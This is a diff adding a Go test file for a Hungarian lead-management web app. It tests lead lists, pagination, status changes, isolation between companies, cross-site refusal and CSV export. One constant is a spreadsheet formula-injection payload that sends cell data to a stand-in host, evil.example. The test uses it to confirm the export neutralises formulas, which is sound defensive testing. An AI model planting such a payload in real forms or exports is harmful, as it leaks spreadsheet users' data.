@@ -1,0 +1,309 @@
+package web_test
+
+import (
+	"context"
+	"encoding/csv"
+	"fmt"
+	"html"
+	"net/http"
+	"net/url"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/uuid"
+
+	"github.com/leadchat/leadchat/internal/company"
+	"github.com/leadchat/leadchat/internal/lead"
+)
+
+// formula is a note a visitor could type to make a spreadsheet fetch a URL.
+const formula = `=HYPERLINK("https://evil.example/?x="&A1,"kattints")`
+
+// leadsFixture is company A with a chat lead (Kovács Péter, whose note is a formula), filler
+// leads enough for two pages of the list, and company B with a lead of its own.
+type leadsFixture struct {
+	*fixture
+	chat, other lead.Lead
+	fillers     int
+}
+
+func startLeads(t *testing.T) *leadsFixture {
+	t.Helper()
+	f := &leadsFixture{fixture: start(t), fillers: 60}
+	for i := range f.fillers {
+		f.addLead(t, f.a, lead.Lead{FirstName: fmt.Sprintf("Teszt%02d", i), LastName: "Elek",
+			Email: fmt.Sprintf("teszt%02d@pelda.hu", i), Source: lead.SourceForm})
+	}
+	f.chat = f.addLead(t, f.a, lead.Lead{FirstName: "Péter", LastName: "Kovács", Email: "kovacs.peter@pelda.hu",
+		Phone: "+36 30 123 4567", PhoneE164: "+36301234567", Service: "Napelem", Note: formula,
+		Source: lead.SourceChat, ReferralData: map[string]string{"utm_source": "hirlevel", "utm_campaign": "tavasz"}})
+	f.chatOf(t, f.a, f.chat.ID)
+	f.other = f.addLead(t, f.b, lead.Lead{FirstName: "Béla", LastName: "Nagy", Email: "nagy.bela@pelda.hu", Source: lead.SourceAPI})
+	return f
+}
+
+func (f *leadsFixture) addLead(t *testing.T, c company.Company, l lead.Lead) lead.Lead {
+	t.Helper()
+	l.ID = lead.NewID()
+	if _, err := f.store.CreateLead(context.Background(), c.ID, l, nil, nil); err != nil {
+		t.Fatal(err)
+	}
+	return l
+}
+
+// chatOf gives a lead a chat as the chat stores it: a visitor's message and the reply.
+func (f *leadsFixture) chatOf(t *testing.T, c company.Company, leadID uuid.UUID) {
+	t.Helper()
+	db, session := f.store.DB(), "web-test-session-"+leadID.String()[:8]
+	if _, err := db.Exec(`INSERT INTO chat_sessions (company_id, session_id, lead_id) VALUES ($1, $2, $3)`,
+		c.ID, session, leadID); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := db.Exec(`INSERT INTO chat_messages (company_id, session_id, visitor, text)
+		VALUES ($1, $2, true, 'Mennyibe kerül egy 5 kW-os rendszer?'), ($1, $2, false, 'Kérem, adja meg az e-mail-címét, és kollégánk visszahívja.')`,
+		c.ID, session); err != nil {
+		t.Fatal(err)
+	}
+}
+
+var leadRow = regexp.MustCompile(`data-lead="([0-9a-f-]{36})"`)
+
+// rows are the lead ids a list page shows, in order.
+func rows(body string) []string {
+	var ids []string
+	for _, m := range leadRow.FindAllStringSubmatch(body, -1) {
+		ids = append(ids, m[1])
+	}
+	return ids
+}
+
+var nextLink = regexp.MustCompile(`<a href="([^"]+)" rel="next">`)
+
+func TestLeadsList(t *testing.T) {
+	f := startLeads(t)
+	c := f.client(t)
+	c.login(f.owner)
+	month := time.Now().In(budapestTZ(t)).Format("2006-01")
+
+	for _, tt := range []struct {
+		name  string
+		query url.Values
+		want  int
+	}{
+		{"first page of everything", nil, 50},
+		{"text finds the name", url.Values{"q": {"kovács"}}, 1},
+		{"text finds the email", url.Values{"q": {"teszt07@"}}, 1},
+		{"source", url.Values{"source": {"chat"}}, 1},
+		{"status with no lead", url.Values{"status": {"won"}}, 0},
+		{"this month", url.Values{"month": {month}, "q": {"Elek"}}, 50},
+		{"another month", url.Values{"month": {"2001-01"}}, 0},
+		{"the other company's lead is not found", url.Values{"q": {"Nagy"}}, 0},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			r := c.get("/app/leads?" + tt.query.Encode())
+			if r.status != http.StatusOK {
+				t.Fatalf("GET: %d", r.status)
+			}
+			if got := rows(r.body); len(got) != tt.want {
+				t.Errorf("%d rows, want %d", len(got), tt.want)
+			}
+		})
+	}
+	t.Run("the name is in Hungarian order", func(t *testing.T) {
+		if r := c.get("/app/leads?q=kovacs.peter"); !strings.Contains(r.body, ">Kovács Péter</a>") {
+			t.Errorf("the list does not show Kovács Péter:\n%s", r.body)
+		}
+	})
+	for _, q := range []string{"status=archived", "source=fax", "month=2026-13", "after=nonsense"} {
+		t.Run("invalid "+q, func(t *testing.T) {
+			if r := c.get("/app/leads?" + q); r.status != http.StatusBadRequest || !strings.Contains(r.body, `role="alert"`) {
+				t.Errorf("GET ?%s: %d", q, r.status)
+			}
+		})
+	}
+
+	t.Run("keyset pages cover every lead once, filter kept", func(t *testing.T) {
+		seen := map[string]bool{}
+		path, pages := "/app/leads?q=Elek", 0
+		for path != "" {
+			r := c.get(path)
+			if r.status != http.StatusOK {
+				t.Fatalf("GET %s: %d", path, r.status)
+			}
+			pages++
+			for _, id := range rows(r.body) {
+				if seen[id] {
+					t.Errorf("lead %s on two pages", id)
+				}
+				seen[id] = true
+			}
+			path = ""
+			if m := nextLink.FindStringSubmatch(r.body); m != nil {
+				path = html.UnescapeString(m[1])
+				if !strings.Contains(path, "q=Elek") {
+					t.Errorf("the next page %s lost the filter", path)
+				}
+			}
+		}
+		if len(seen) != f.fillers || pages != 2 {
+			t.Errorf("%d leads on %d pages, want %d on 2", len(seen), pages, f.fillers)
+		}
+	})
+}
+
+func budapestTZ(t *testing.T) *time.Location {
+	l, err := time.LoadLocation("Europe/Budapest")
+	if err != nil {
+		t.Fatal(err)
+	}
+	return l
+}
+
+func TestLeadPageAndStatus(t *testing.T) {
+	f := startLeads(t)
+	c := f.client(t)
+	c.login(f.owner)
+	path := "/app/leads/" + f.chat.ID.String()
+
+	r := c.get(path)
+	if r.status != http.StatusOK {
+		t.Fatalf("GET %s: %d", path, r.status)
+	}
+	for _, want := range []string{"Kovács Péter", "kovacs.peter@pelda.hu", "+36301234567", "Napelem",
+		"hirlevel", "utm_campaign", "nincs rögzítve", "Mennyibe kerül egy 5 kW-os rendszer?",
+		"kollégánk visszahívja", "A beérkezése óta nem változott."} {
+		if !strings.Contains(html.UnescapeString(r.body), want) {
+			t.Errorf("the lead page lacks %q", want)
+		}
+	}
+
+	t.Run("the owner changes the status, kept in the history", func(t *testing.T) {
+		r := c.post(path+"/status", url.Values{"status": {"won"}})
+		if r.status != http.StatusSeeOther || r.location != path {
+			t.Fatalf("POST status: %d %s", r.status, r.location)
+		}
+		page := c.get(path).body
+		if !strings.Contains(page, "Az állapot mentve: megnyert.") || !strings.Contains(page, "<td>dashboard</td>") {
+			t.Errorf("after the change the page shows no flash or no history:\n%s", page)
+		}
+		if got := rows(c.get("/app/leads?status=won").body); !slices.Equal(got, []string{f.chat.ID.String()}) {
+			t.Errorf("won leads = %v", got)
+		}
+	})
+	t.Run("a member changes the status too", func(t *testing.T) {
+		m := f.client(t)
+		m.login(f.member)
+		if r := m.post(path+"/status", url.Values{"status": {"contacted"}}); r.status != http.StatusSeeOther {
+			t.Errorf("member POST status: %d", r.status)
+		}
+	})
+	t.Run("a status a company cannot set", func(t *testing.T) {
+		if r := c.post(path+"/status", url.Values{"status": {"over_limit"}}); r.status != http.StatusBadRequest {
+			t.Errorf("POST over_limit: %d", r.status)
+		}
+	})
+	t.Run("a cross-site form post is refused", func(t *testing.T) {
+		if r := c.post(path+"/status", url.Values{"status": {"lost"}}, "Sec-Fetch-Site", "cross-site"); r.status != http.StatusForbidden {
+			t.Errorf("cross-site POST status: %d", r.status)
+		}
+	})
+	t.Run("another company's lead is not found", func(t *testing.T) {
+		b := f.client(t)
+		b.login(f.ownerB)
+		if r := b.get(path); r.status != http.StatusNotFound {
+			t.Errorf("B GET A's lead: %d", r.status)
+		}
+		if r := b.post(path+"/status", url.Values{"status": {"lost"}}); r.status != http.StatusNotFound {
+			t.Errorf("B POST A's lead status: %d", r.status)
+		}
+		if r := c.get("/app/leads/" + f.other.ID.String()); r.status != http.StatusNotFound {
+			t.Errorf("A GET B's lead: %d", r.status)
+		}
+		if r := c.get("/app/leads/not-an-id"); r.status != http.StatusNotFound {
+			t.Errorf("GET a malformed id: %d", r.status)
+		}
+	})
+}
+
+func TestLeadsCSV(t *testing.T) {
+	f := startLeads(t)
+	c := f.client(t)
+	c.login(f.member)
+
+	t.Run("the filter's leads, formula neutralised", func(t *testing.T) {
+		r := c.get("/app/leads.csv?source=chat")
+		if r.status != http.StatusOK || !strings.HasPrefix(r.header.Get("Content-Type"), "text/csv") {
+			t.Fatalf("GET: %d %s", r.status, r.header.Get("Content-Type"))
+		}
+		records, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(records) != 2 || records[0][0] != "id" || records[0][7] != "details" {
+			t.Fatalf("records = %q", records)
+		}
+		if got := records[1][7]; got != "'"+formula {
+			t.Errorf("details cell = %q, want the formula behind an apostrophe", got)
+		}
+		if records[1][0] != f.chat.ID.String() {
+			t.Errorf("id cell = %q", records[1][0])
+		}
+	})
+	t.Run("every lead of the company, none of another", func(t *testing.T) {
+		records, err := csv.NewReader(strings.NewReader(c.get("/app/leads.csv").body)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(records) != 1+f.fillers+1 {
+			t.Errorf("%d records, want a header and %d leads", len(records), f.fillers+1)
+		}
+		for _, rec := range records {
+			if rec[0] == f.other.ID.String() {
+				t.Error("the export holds company B's lead")
+			}
+		}
+	})
+	t.Run("an invalid filter", func(t *testing.T) {
+		if r := c.get("/app/leads.csv?month=tegnap"); r.status != http.StatusBadRequest {
+			t.Errorf("GET: %d", r.status)
+		}
+	})
+	t.Run("anonymous", func(t *testing.T) {
+		if r := f.client(t).get("/app/leads.csv"); r.status != http.StatusSeeOther {
+			t.Errorf("GET: %d", r.status)
+		}
+	})
+}
+
+// TestLeadsCSVLarge exports more leads than one store page and one write-deadline step.
+func TestLeadsCSVLarge(t *testing.T) {
+	f := start(t)
+	const n = 2500
+	if _, err := f.store.DB().Exec(`
+		INSERT INTO leads (id, company_id, first_name, last_name, email, source, status, created_at, updated_at)
+		SELECT gen_random_uuid(), $1, 'Anna', 'Kiss', 'lead' || i || '@pelda.hu', 'form', 'new',
+		       now() - i * interval '1 minute', now() - i * interval '1 minute'
+		FROM generate_series(1, $2::int) AS i`, f.a.ID, n); err != nil {
+		t.Fatal(err)
+	}
+	c := f.client(t)
+	c.login(f.owner)
+	r := c.get("/app/leads.csv?q=Kiss")
+	records, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
+	if err != nil || r.status != http.StatusOK {
+		t.Fatalf("GET: %d, %v", r.status, err)
+	}
+	if len(records) != 1+n {
+		t.Errorf("%d records, want a header and %d leads", len(records), n)
+	}
+	seen := map[string]bool{}
+	for _, rec := range records[1:] {
+		seen[rec[0]] = true
+	}
+	if len(seen) != n {
+		t.Errorf("%d distinct leads, want %d", len(seen), n)
+	}
+}
